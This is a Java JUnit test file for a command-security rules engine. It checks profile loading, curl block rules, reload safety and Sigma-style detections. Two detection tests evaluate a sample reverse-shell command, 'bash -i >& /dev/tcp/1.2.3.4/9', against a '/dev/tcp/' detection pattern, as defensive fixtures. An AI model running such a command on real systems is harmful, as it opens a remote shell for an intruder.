package dev.capsem.process.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.capsem.events.row.Attribution;
import dev.capsem.events.security.BlockCause;
import dev.capsem.events.security.Decision;
import dev.capsem.events.security.Envelope;
import dev.capsem.events.security.Evaluation;
import dev.capsem.events.security.SecurityEvent.ProcessExec;
import dev.capsem.events.vocabulary.Correlation;
import dev.capsem.events.vocabulary.EventId;
import dev.capsem.process.configuration.ConfigurationInForce;
import dev.capsem.process.rules.SessionRules.Loading;
import dev.capsem.profiles.EffectiveJson;
import dev.capsem.security.RuleSnapshot;
import dev.capsem.source.Layer;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

@Timeout(60)
final class SessionRulesTest {
    private static final String BLOCK_CURL =
            Rules.command("no_curl", "process.exec.executable == \"curl\"", "block", 10);

    @TempDir
    private Path directory;

    private final SessionRules rules = new SessionRules();
    private final ConfigurationInForce configuration = new ConfigurationInForce(rules, _ -> Optional.empty());

    @Test
    void putsTheProfileInForce() {
        String revision = Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);

        Loading loading = configuration.load(directory);

        assertThat(loading).isEqualTo(new Loading.InForce(revision, 2, List.of()));
        assertThat(configuration.now().revision()).contains(revision);
        assertThat(rules.problem()).isEmpty();
        assertThat(decision("curl x")).isEqualTo(Decision.BLOCK);
        assertThat(decision("make")).isEqualTo(Decision.ALLOW);
    }

    @Test
    void withoutAProfileEverythingIsBlockedAndItSaysWhy() {
        Loading loading = configuration.load(directory);

        assertThat(loading).isInstanceOf(Loading.Refused.class);
        assertThat(rules.problem()).hasValueSatisfying(text -> assertThat(text).contains("effective profile"));
        assertBlocked(BlockCause.NO_RULES);
    }

    @Test
    void aDamagedProfileBlocksEverything() throws IOException {
        Rules.write(directory, Rules.ALLOW_COMMANDS);
        Path file = directory.resolve(EffectiveJson.FILE);
        Files.writeString(file, Files.readString(file).replace("allow", "block"));

        configuration.load(directory);

        assertThat(rules.problem()).hasValueSatisfying(text -> assertThat(text).contains("revision"));
        assertBlocked(BlockCause.NO_RULES);
    }

    @Test
    void aBadRuleRejectsAllWithItsPlace() {
        Rules.write(directory, Rules.ALLOW_COMMANDS, Rules.command("typo", "process.exec.comand == \"x\"", "block", 1));

        configuration.load(directory);

        assertThat(rules.problem())
                .hasValueSatisfying(
                        text -> assertThat(text).startsWith("profile.toml:9:").contains("command"));
        assertBlocked(BlockCause.NO_RULES);
    }

    @Test
    void noRuleRewritesACommand() {
        String rewrite = "[security.rules.process.r]\non = \"process.exec\"\nif = \"true\"\ndecision = \"rewrite\"\n";
        Rules.write(directory, rewrite + "strip_request_headers = [\"x\"]\n");
        configuration.load(directory);
        assertThat(rules.problem()).isPresent();

        Rules.write(directory, rewrite + "rewrite_target = 'process.exec.command =~ \"a\"'\nrewrite_value = \"b\"\n");
        configuration.load(directory);
        assertThat(rules.problem()).isPresent();
    }

    @Test
    void aBadReloadKeepsTheRulesBefore() {
        Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
        configuration.load(directory);
        Rules.write(directory, "[security.rules.process.a]\non = \"process.exec\"\nif = \"tru\"\n");

        Loading loading = configuration.load(directory);

        assertThat(loading)
                .isInstanceOfSatisfying(
                        Loading.Refused.class,
                        refused -> assertThat(refused.problems())
                                .isNotEmpty()
                                .allSatisfy(problem -> assertThat(problem).startsWith("profile.toml:")));
        assertThat(rules.problem()).isEmpty();
        assertThat(decision("curl x")).isEqualTo(Decision.BLOCK);
        assertThat(decision("make")).isEqualTo(Decision.ALLOW);
    }

    @Test
    void theOverlayAddsRulesButNeverOutranksTheCompany() throws IOException {
        Rules.write(directory, Rules.ALLOW_COMMANDS);
        Files.writeString(directory.resolve("overlay.toml"), BLOCK_CURL);
        configuration.load(directory);
        assertThat(decision("curl x")).isEqualTo(Decision.BLOCK);

        Files.writeString(
                directory.resolve("overlay.toml"),
                Rules.command("no_curl", "process.exec.executable == \"curl\"", "allow", -5));
        assertThat(configuration.load(directory))
                .isInstanceOfSatisfying(
                        Loading.Refused.class,
                        refused -> assertThat(refused.problems())
                                .singleElement()
                                .asString()
                                .startsWith("overlay.toml:5:"));
    }

    @Test
    void detectionsOfTheSessionFindAndNeverDecide() throws IOException {
        Rules.write(directory, Rules.ALLOW_COMMANDS);
        Files.createDirectory(directory.resolve("detections"));
        Files.writeString(directory.resolve("detections/shells.yml"), """
                title: Reverse shell
                level: high
                logsource:
                  product: capsem
                  category: process
                detection:
                  it:
                    process.exec.command|contains: /dev/tcp/
                  condition: it
                """);

        configuration.load(directory);
        Evaluation evaluation = rules.engine().evaluate(exec("bash -i >& /dev/tcp/1.2.3.4/9"));

        assertThat(evaluation.decision()).isEqualTo(Decision.ALLOW);
        assertThat(evaluation.findings())
                .singleElement()
                .satisfies(finding -> assertThat(finding.toString()).contains("shells"));
    }

    @Test
    void findingsCarryTheIdsThatTheServiceWroteBesideTheFiles() throws IOException {
        Rules.write(directory, Rules.ALLOW_COMMANDS);
        Files.createDirectory(directory.resolve("detections"));
        Files.writeString(directory.resolve("detections/my-det-1.yml"), """
                title: Reverse shell
                level: high
                logsource:
                  product: capsem
                  category: process
                detection:
                  it:
                    process.exec.command|contains: /dev/tcp/
                  condition: it
                """);
        Files.writeString(
                directory.resolve("detections/ids.json"),
                "{\"my-det-1.yml\":{\"id\":\"my-det-1\",\"pack_id\":\"corp\"}}");

        configuration.load(directory);
        Evaluation evaluation = rules.engine().evaluate(exec("bash -i >& /dev/tcp/1.2.3.4/9"));

        assertThat(evaluation.findings())
                .extracting(finding -> finding.ruleId() + " of " + finding.packId())
                .containsExactly("my-det-1 of corp");
        assertThat(rules.engine().detectionStats())
                .extracting(stat -> stat.id() + " " + stat.matches())
                .containsExactly("my-det-1 1");
    }

    @Test
    void aSpareThatCompiledTheSameRulesHandsThemOver() throws IOException {
        Path usual = directory.resolve("default.json");
        Files.writeString(usual, EffectiveJson.write(Rules.profile(Layer.USER, BLOCK_CURL, Rules.ALLOW_COMMANDS)));
        rules.prepare(usual);
        assertBlocked(BlockCause.NO_RULES);
        Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);

        configuration.load(directory);
        RuleSnapshot prepared = rules.engine().snapshot().orElseThrow();
        configuration.load(directory);

        assertThat(rules.engine().snapshot()).containsSame(prepared);
        assertThat(decision("curl x")).isEqualTo(Decision.BLOCK);
    }

    @Test
    void countsPerRuleSurviveAReloadThatLeavesTheRuleAlone() {
        Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
        configuration.load(directory);
        decision("curl x");
        decision("make");
        decision("make");

        Rules.write(directory, BLOCK_CURL, Rules.command("allow_all", "process.exec.command != \"x\"", "allow", 900));
        configuration.load(directory);

        assertThat(rules.engine().generation()).isEqualTo(2);
        assertThat(rules.engine().stats())
                .extracting(stat -> stat.id().value() + " " + stat.matches())
                .containsExactly("security.rules.process.no_curl 1", "security.rules.process.allow_all 0");
    }

    @Test
    void reloadingWhileDecisionsAreMadeNeverAllowsWhatBothSetsBlock() throws InterruptedException {
        Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
        configuration.load(directory);
        AtomicBoolean isOver = new AtomicBoolean();
        AtomicInteger wrong = new AtomicInteger();
        Thread decisions = Thread.ofPlatform().start(() -> {
            while (!isOver.get()) {
                if (decision("curl x") != Decision.BLOCK) {
                    wrong.incrementAndGet();
                }
            }
        });

        for (int i = 0; i < 60; i++) {
            switch (i % 3) {
                case 0 -> Rules.write(directory, BLOCK_CURL);
                case 1 -> Rules.write(directory, "[security.rules.process.bad]\nif = 3\n");
                default -> Rules.write(directory, BLOCK_CURL, Rules.ALLOW_COMMANDS);
            }
            configuration.load(directory);
        }
        isOver.set(true);
        decisions.join();

        assertThat(wrong).hasValue(0);
        assertThat(rules.engine().generation()).isGreaterThan(30);
    }

    private void assertBlocked(BlockCause cause) {
        assertThat(rules.engine().evaluate(exec("make")).outcome()).isEqualTo(new Evaluation.Blocked(cause));
    }

    private Decision decision(String command) {
        return rules.engine().evaluate(exec(command)).decision();
    }

    private static ProcessExec exec(String command) {
        Envelope envelope = Envelope.inline(new EventId("ev-1"), Instant.EPOCH, Attribution.UNKNOWN, Correlation.NONE);
        return new ProcessExec(envelope, command, List.of(), Optional.empty());
    }
}
